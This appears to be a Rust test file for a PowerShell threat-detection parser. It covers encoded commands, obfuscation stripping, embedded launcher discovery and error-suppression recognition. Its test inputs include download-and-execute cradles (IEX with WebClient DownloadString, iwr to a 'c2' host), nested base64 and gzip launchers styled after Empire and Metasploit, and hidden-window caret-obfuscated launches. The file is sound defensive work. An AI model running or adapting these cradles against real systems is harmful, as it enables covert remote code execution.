//! Every decoding and parsing rule, both sides: what PowerShell accepts is decoded
//! and recognised, its look-alikes are not.

use super::*;

fn args(s: &str) -> Vec<String> {
    split_command_line(&format!("powershell.exe {s}"))[1..].to_vec()
}

fn host(s: &str) -> HostArgs {
    parse_host_args(&args(s), false, true)
}

/// UTF-16LE base64, as -EncodedCommand wants it.
fn enc(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn suppressed(text: &str) -> Suppression {
    suppression(&normalize(text))
}

// --- host switches -----------------------------------------------------------------

#[test]
fn formats_md_example_decodes() {
    // docs/field-guide.md §4.1: `Get-Process -ErrorAction SilentlyContinue`.
    let b64 = enc("Get-Process -ErrorAction SilentlyContinue");
    assert!(b64.starts_with("RwBlAHQALQBQAHIAbwBj"));
    assert_eq!(
        decode_encoded_command(&b64).as_deref(),
        Some("Get-Process -ErrorAction SilentlyContinue")
    );
    // Not base64 of text: refused rather than turned into garbage.
    assert_eq!(decode_encoded_command("////////////////"), None);
    assert_eq!(decode_encoded_command("not base64 at all!"), None);
}

#[test]
fn every_encodedcommand_spelling_is_recognised() {
    let b64 = enc("iwr http://x -ea 0");
    for switch in [
        "-EncodedCommand",
        "-encodedcommand",
        "-e",
        "-en",
        "-enc",
        "-EnCoDeD",
        "-ec",
        "-EC",
        "/enc",
        "/e",
        "--enc",
        "\u{2013}enc",
        "\u{2014}EncodedCommand",
        "\u{2015}ec",
    ] {
        let h = host(&format!("-nop {switch} {b64}"));
        assert_eq!(h.script.as_deref(), Some("iwr http://x -ea 0"), "{switch}");
        assert_eq!(h.encoded.as_deref(), Some(b64.as_str()), "{switch}");
        assert!(h.context().contains(&"encoded_command"));
    }
}

#[test]
fn encoded_arguments_and_execution_policy_are_not_encoded_command() {
    let b64 = enc("iwr http://x -ea 0");
    // -ea and -encodeda… are -EncodedArguments on the host's own command line: their
    // value is skipped, not run, and certainly not -ErrorAction.
    for switch in ["-ea", "-EA", "-encodeda", "-EncodedArguments"] {
        let h = host(&format!("{switch} {b64} -c Get-Date"));
        assert_eq!(h.script.as_deref(), Some("Get-Date"), "{switch}");
        assert!(h.encoded.is_none(), "{switch}");
    }
    // -ex/-ep are -ExecutionPolicy, not -EncodedCommand.
    let h = host(&format!("-ex Bypass -ep unrestricted -enc {b64}"));
    assert!(h.policy_bypass);
    assert!(h.encoded.is_some());
    assert!(!host("-ExecutionPolicy RemoteSigned -c Get-Date").policy_bypass);
}

#[test]
fn window_style_hidden_by_name_number_and_prefix() {
    for s in [
        "-w hidden",
        "-W 1",
        "-WindowStyle Hidden",
        "-wi HIDDEN",
        "/w hidden",
        "-window 1",
    ] {
        assert!(host(&format!("{s} -c Get-Date")).hidden, "{s}");
    }
    for s in [
        "-w normal",
        "-w 0",
        "-WindowStyle Minimized",
        "-wd C:\\ -c x",
    ] {
        assert!(!host(&format!("{s} -c Get-Date")).hidden, "{s}");
    }
}

#[test]
fn command_text_is_the_rest_joined() {
    let h = host(
        r#"-NoProfile -NonInteractive -Command "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" -ea 0"#,
    );
    assert_eq!(
        h.script.as_deref(),
        Some("IEX (New-Object Net.WebClient).DownloadString('http://x/a') -ea 0")
    );
    // -c, and prefixes of -Command.
    assert_eq!(host("-c Get-Date").script.as_deref(), Some("Get-Date"));
    assert_eq!(host("-comm Get-Date").script.as_deref(), Some("Get-Date"));
    // -Command - reads standard input: nothing to see.
    assert_eq!(host("-Command -").script, None);
    // Windows PowerShell runs a bare first argument as a command; pwsh as a file.
    assert_eq!(host("-nop Get-Date").script.as_deref(), Some("Get-Date"));
    let p = parse_host_args(&args("script.ps1 -x"), true, true);
    assert_eq!((p.script, p.file.as_deref()), (None, Some("script.ps1")));
    // -File: the script is not on the command line.
    let f = host("-ExecutionPolicy Bypass -File C:\\x.ps1 -ea 0");
    assert_eq!((f.script, f.file.as_deref()), (None, Some("C:\\x.ps1")));
}

#[test]
fn slash_is_a_switch_only_on_windows() {
    let unix = parse_host_args(&["/tmp/x.ps1".to_string()], true, false);
    assert_eq!(unix.file.as_deref(), Some("/tmp/x.ps1"));
    let unix_c = parse_host_args(&["-c".into(), "iwr x -ea 0".into()], true, false);
    assert_eq!(unix_c.script.as_deref(), Some("iwr x -ea 0"));
}

// --- decoding inside the text ------------------------------------------------------

#[test]
fn nested_encodings_are_followed() {
    let inner = enc("$ErrorActionPreference='SilentlyContinue'; iwr http://c2/x");
    let outer = format!("Start-Process powershell -ArgumentList '-w hidden -enc {inner}'");
    let decoded = nested_decodes(&outer);
    assert_eq!(
        decoded,
        ["$ErrorActionPreference='SilentlyContinue'; iwr http://c2/x"]
    );
    // Two levels: an encoded command that itself launches an encoded command.
    let twice = format!(
        "powershell -e {}",
        enc(&format!("powershell.exe -EC {inner}"))
    );
    let decoded = nested_decodes(&twice);
    assert_eq!(decoded.len(), 2);
    assert!(decoded[1].contains("SilentlyContinue"));
}

#[test]
fn frombase64string_literals_utf16_utf8_and_gzip() {
    // Empire's launcher: a UTF-16LE URL.
    let t = "$ser=$([TexT.EnCODiNg]::UNIcODE.GetStriNG([COnvERT]::FRoMBAsE64StriNg('aAB0AHQAcAA6AC8ALwAxADAALgAxADAALgAxADAALgA1AA==')))";
    assert_eq!(nested_decodes(t), ["http://10.10.10.5"]);
    // UTF-8.
    let b = base64::engine::general_purpose::STANDARD.encode("iex (iwr http://x) -ea 0");
    assert_eq!(
        nested_decodes(&format!("[Convert]::FromBase64String(\"{b}\")")),
        ["iex (iwr http://x) -ea 0"]
    );
    // Gzip (MSF's web_delivery style).
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, b"$ErrorActionPreference = 0; IEX $payload").unwrap();
    let b = base64::engine::general_purpose::STANDARD.encode(gz.finish().unwrap());
    let t = format!(
        "New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{b}'))),[IO.Compression.CompressionMode]::Decompress)"
    );
    assert_eq!(
        nested_decodes(&t),
        ["$ErrorActionPreference = 0; IEX $payload"]
    );
    // Binary blobs (an icon, a key) are not text and are not kept.
    let b = base64::engine::general_purpose::STANDARD.encode([
        0u8, 1, 2, 3, 200, 201, 202, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17,
    ]);
    assert!(nested_decodes(&format!("[Convert]::FromBase64String('{b}')")).is_empty());
}

#[test]
fn decoding_is_bounded() {
    // A self-similar chain deeper than the limit stops at the limit.
    let mut text = "iwr x -ea 0".to_string();
    for _ in 0..10 {
        text = format!("powershell -enc {}", enc(&text));
    }
    assert_eq!(nested_decodes(&text).len(), MAX_DECODE_DEPTH);
}

#[test]
fn cmd_carets_are_removed_outside_quotes_only() {
    assert_eq!(
        strip_carets(r#"cmd /c p^o^w^e^r^s^h^e^l^l -e^a 0 -c "a^b""#),
        r#"cmd /c powershell -ea 0 -c "a^b""#
    );
    assert_eq!(strip_carets("a^^b^"), "a^b");
}

#[test]
fn embedded_hosts_are_found_in_other_command_lines() {
    let re = embedded_host_regex(&[
        "powershell.exe".into(),
        "pwsh.exe".into(),
        "powershell".into(),
        "pwsh".into(),
    ])
    .unwrap();
    let cmd = strip_carets(
        r#"C:\Windows\system32\cmd.exe /b /c start /b /min p^owershell.exe -nop -w hidden -c "iwr http://x -ea 0""#,
    );
    let found = find_embedded_hosts(&cmd, &re);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].0, "powershell.exe");
    let h = parse_host_args(&found[0].1, false, true);
    assert!(h.hidden);
    assert_eq!(h.script.as_deref(), Some("iwr http://x -ea 0"));
    // A quoted full path.
    let found = find_embedded_hosts(
        r#"mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -c Get-Date")"#,
        &re,
    );
    assert_eq!(found.len(), 1);
    // Names that merely contain the word are not hosts.
    assert!(find_embedded_hosts(r"notepad.exe C:\notes\powershell.txt", &re).is_empty());
    assert!(find_embedded_hosts(r"explorer.exe C:\powershell_scripts", &re).is_empty());
}

// --- normalisation -----------------------------------------------------------------

#[test]
fn backticks_are_resolved_outside_single_quotes() {
    assert_eq!(
        normalize("I`E`X (New-Object Net.Web`Client)"),
        "iex (new-object net.webclient)"
    );
    assert_eq!(
        normalize("Get-Item x -E`rr`orAction Sil`entlyContinue"),
        "get-item x -erroraction silentlycontinue"
    );
    // Inside double quotes `n is a newline (a statement break here), `t a tab.
    assert_eq!(normalize("\"a`nb\""), "\"a;b\"");
    // Inside single quotes a backtick is just a backtick.
    assert_eq!(normalize("'I`E`X'"), "'i`e`x'");
    // A backtick at the end of a line continues it.
    assert_eq!(normalize("Get-Item x `\n  -ea 0"), "get-item x -ea 0");
}

#[test]
fn concatenated_strings_comments_dashes_and_quotes() {
    assert_eq!(normalize("'Err'+'orAction'"), "'erroraction'");
    assert_eq!(normalize("\"Amsi\" + 'Utils'"), "\"amsiutils'");
    // Comments are not code.
    assert_eq!(
        normalize("Get-Date # -ea 0 iwr\nGet-Item"),
        "get-date ;get-item"
    );
    assert_eq!(normalize("<# iwr -ea 0 #>Get-Date"), "get-date");
    // `#` inside a word or a string is not a comment.
    assert_eq!(normalize("a#b '#x'"), "a#b '#x'");
    // Typographic dashes and quotes are PowerShell's too.
    assert_eq!(
        normalize("Get-Item \u{2013}ea \u{2018}Ignore\u{2019}"),
        "get-item -ea 'ignore'"
    );
}

// --- error suppression -------------------------------------------------------------

#[test]
fn erroraction_parameter_forms() {
    for t in [
        "Get-Item x -ErrorAction SilentlyContinue",
        "Get-Item x -erroraction silentlycontinue",
        "Get-Item x -ErrorAction:SilentlyContinue",
        "Get-Item x -ErrorAction: Ignore",
        "Get-Item x -ErrorA Ignore",
        "Get-Item x -ErrorAct 4",
        "Get-Item x -ea 0",
        "Get-Item x -EA Ignore",
        "Get-Item x -ea:0",
        "Get-Item x -ea '0'",
        "Get-Item x -ErrorAction \"SilentlyContinue\"",
        "Get-Item x -ErrorAction ([System.Management.Automation.ActionPreference]::SilentlyContinue)",
        "Get-Item x -ea ([ActionPreference]'Ignore')",
        "Get-Item x \u{2014}ErrorAction SilentlyContinue",
        "Get-Item x -E`rrorAction Ignore",
        "Get-Item x -ErrorAction ('Silently'+'Continue')",
        "$p = @{ Path = 'x'; ErrorAction = 'SilentlyContinue' }; Get-Item @p",
    ] {
        let s = suppressed(t);
        assert!(s.parameter && !s.preference, "{t}: {s:?}");
    }
}

#[test]
fn erroraction_look_alikes_are_not_suppression() {
    for t in [
        // Ambiguous prefixes (ErrorVariable) and unrelated parameters.
        "Get-Item x -Er Ignore",
        "Get-Item x -Error Ignore",
        "Get-Item x -ErrorVariable SilentlyContinue",
        "Get-Item x -ev 0",
        // Other streams are not errors.
        "Get-Item x -WarningAction SilentlyContinue",
        "Get-Item x -wa 0",
        "Get-Item x -InformationAction Ignore",
        "Get-Item x -infa 0",
        "Get-Item x -ProgressAction SilentlyContinue",
        "$ProgressPreference = 'SilentlyContinue'",
        "$WarningPreference = 'SilentlyContinue'",
        "$VerbosePreference = 'SilentlyContinue'",
        "$InformationPreference = 'Ignore'",
        // Values that do not silence.
        "Get-Item x -ErrorAction Stop",
        "Get-Item x -ea 1",
        "Get-Item x -ea 2",
        "Get-Item x -ErrorAction Continue",
        "Get-Item x -ea $pref",
        "Get-Item x -ErrorActionX 0",
        "$ErrorActionPreference = 'Stop'",
        "$ErrorActionPreference = 'Continue'",
        "$old = $ErrorActionPreference",
        "if ($ErrorActionPreference -eq 'SilentlyContinue') { }",
        "$ErrorActionPreference = $previous",
        "Set-Variable -Name ErrorActionPreference -Value Stop -Scope 0",
        // Words in comments and the bare word.
        "# -ErrorAction SilentlyContinue\nGet-Item x",
        "<# $ErrorActionPreference = 0 #> Get-Item x",
        "Write-Host 'SilentlyContinue'",
        "Get-Item -Path x -Filter ea",
    ] {
        assert!(!suppressed(t).any(), "{t}");
    }
}

#[test]
fn error_preference_forms() {
    for t in [
        "$ErrorActionPreference = 'SilentlyContinue'",
        "$ErrorActionPreference = \"SilentlyContinue\"",
        "$erroractionpreference='silentlycontinue'",
        "$ErrorActionPreference=0",
        "$ErrorActionPreference = 'Ignore'",
        "$ErrorActionPreference = [System.Management.Automation.ActionPreference]::SilentlyContinue",
        "$global:ErrorActionPreference = 'SilentlyContinue'",
        "$script:ErrorActionPreference='SilentlyContinue'",
        "${ErrorActionPreference} = 'SilentlyContinue'",
        "${global:ErrorActionPreference}=0",
        "$ErrorActionPreference = 'Silently'+'Continue'",
        "Set-Variable -Name ErrorActionPreference -Value SilentlyContinue",
        "Set-Variable ErrorActionPreference 0 -Scope Global",
        "sv ErrorActionPreference 'Ignore'",
        "Set-Variable -Scope Global -Name 'ErrorActionPreference' -Value 'SilentlyContinue' -Force",
        "Set-Item -Path Variable:ErrorActionPreference -Value SilentlyContinue",
        "$PSDefaultParameterValues['*:ErrorAction'] = 'SilentlyContinue'",
        "$PSDefaultParameterValues.Add('*:ErrorAction','Ignore')",
        "$PSDefaultParameterValues = @{ 'Get-*:ErrorAction' = 'SilentlyContinue' }",
    ] {
        let s = suppressed(t);
        assert!(s.preference, "{t}: {s:?}");
    }
}

// --- 4103 payloads -----------------------------------------------------------------

#[test]
fn module_logging_payload_becomes_commands() {
    // Verbatim from elastic/beats 4103.evtx.golden.json.
    let payload = "CommandInvocation(Resolve-Path): \"Resolve-Path\"\nParameterBinding(Resolve-Path): name=\"ErrorAction\"; value=\"Ignore\"\nParameterBinding(Resolve-Path): name=\"WarningAction\"; value=\"Ignore\"\nParameterBinding(Resolve-Path): name=\"InformationAction\"; value=\"Ignore\"\nParameterBinding(Resolve-Path): name=\"Verbose\"; value=\"False\"\nParameterBinding(Resolve-Path): name=\"Debug\"; value=\"False\"\nParameterBinding(Resolve-Path): name=\"Path\"; value=\"C:\\Gopath\\src\\github.com\\elastic\\beats\\x*\"";
    let cmds = commands_from_4103(payload, &[]);
    assert_eq!(
        cmds,
        "Resolve-Path -ErrorAction 'Ignore' -WarningAction 'Ignore' -InformationAction 'Ignore' -Verbose 'False' -Debug 'False' -Path 'C:\\Gopath\\src\\github.com\\elastic\\beats\\x*'"
    );
    assert!(suppressed(&cmds).parameter);
    // Values with quotes and line breaks stay whole; inert commands are dropped.
    let payload = "CommandInvocation(Set-Alias): \"Set-Alias\"\r\nParameterBinding(Set-Alias): name=\"Name\"; value=\"irm\"\r\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Invoke-RestMethod\"\r\nParameterBinding(Set-Alias): name=\"ErrorAction\"; value=\"SilentlyContinue\"\r\nCommandInvocation(Invoke-Expression): \"Invoke-Expression\"\r\nParameterBinding(Invoke-Expression): name=\"Command\"; value=\"Write-Host \"a\"\r\n'b'\"\r\n";
    let cmds = commands_from_4103(payload, &["Set-Alias".to_string()]);
    assert_eq!(
        cmds,
        "Invoke-Expression -Command 'Write-Host \"a\"\r\n''b'''"
    );
}

#[test]
fn command_line_keys_match_across_logs() {
    // OTRF: Sysmon's CommandLine and the 800 event's HostApplication of one process.
    let sysmon = "\"C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -noP -sta -w 1 -enc  SQBmACgA";
    let host_app = "C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBmACgA";
    assert_eq!(command_line_key(sysmon), command_line_key(host_app));
    assert_ne!(
        command_line_key(sysmon),
        command_line_key("powershell.exe -c Get-Date")
    );
}

#[test]
fn basenames_of_windows_and_unix_paths() {
    assert_eq!(
        basename(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        "powershell.exe"
    );
    assert_eq!(basename("/opt/microsoft/powershell/7/pwsh"), "pwsh");
    assert_eq!(basename("\"C:\\x\\pwsh.exe\""), "pwsh.exe");
    // The fast path for untrimmed paths gives what trimming and splitting give.
    let reference = |path: &str| {
        let path = path.trim().trim_matches('"');
        path.rsplit(['\\', '/']).next().unwrap_or(path).to_string()
    };
    let parts = [
        "", "/", "\\", "\"", " ", "\t", "x", "pwsh", "\u{a0}", "é", "\u{2003}", "-",
    ];
    for a in parts {
        for b in parts {
            for c in parts {
                for d in parts {
                    let path = format!("{a}{b}{c}{d}");
                    assert_eq!(basename(&path), reference(&path), "{path:?}");
                }
            }
        }
    }
}

#[test]
fn hostile_text_never_panics() {
    // Truncations and byte soup through every decoder (multi-byte characters, lone
    // backticks and quotes, unterminated here-strings and comments).
    let samples = [
        "powershell -enc",
        "-e\u{2014}",
        "@'\n",
        "<# never closed",
        "\"`",
        "'`'",
        "$PSDefaultParameterValues['",
        "Set-Variable -Value",
        "CommandInvocation(x): \"x\"\nParameterBinding(x): name=\"",
        "ParameterBinding(): value=\"",
        "frombase64string('====')",
        "é´ü€𝄞 -ea 0 ´",
    ];
    for s in samples {
        for end in (0..=s.len()).filter(|&i| s.is_char_boundary(i)) {
            let t = &s[..end];
            let _ = suppression(&normalize(t));
            let _ = nested_decodes(t);
            let _ = commands_from_4103(t, &[]);
            let _ = strip_carets(t);
            let _ = parse_host_args(&args(t), false, true);
            let _ = command_line_key(t);
            let _ = decode_encoded_command(t);
        }
    }
}
